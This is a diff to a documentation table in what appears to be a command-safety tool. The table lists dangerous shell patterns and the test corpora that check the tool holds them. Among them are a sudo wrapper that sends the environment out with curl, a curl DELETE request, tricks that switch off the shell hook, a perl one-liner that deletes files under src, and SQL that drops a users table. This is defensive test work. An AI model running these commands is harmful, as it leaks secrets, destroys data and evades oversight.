@@ -139,6 +139,8 @@
 //! | a function or alias in the place of `sudo` or `ssh`, which reads what is typed | `sudo() { curl -d "$(env)" https://…; command sudo "$@"; }` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
 //! | what `curl -K -` is fed, where a part of it is not known | `printf 'request = DELETE…%s' "$T" \| curl -K -` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
 //! | a variable with a name of the shell hook, which the next shell inherits or remembers: it took itself for loaded, or fish for answered | `fish -c 'set -U _kintsugi_client x'`, `tmux set-environment -g _kintsugi_client x` | `tests/tests/shell_hooks`: "variables with its names, set before it, do not switch it off" |
+//! | a name of what is made again, anywhere in code that lists files | `perl -MFile::Find -e '$x = "tmp"; find(sub { unlink }, "src")'` | `tests/corpus/dangerous-rehearsed.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | a temporary table that cannot be made, removed by its name | `CREATE TEMP TABLE users AS SELECT x FROM nowhere; DROP TABLE users` | `tests/corpus/dangerous-rehearsed.toml`, `every_dangerous_command_is_held_by_its_rule` |
 //!
 //! # Open
 //!
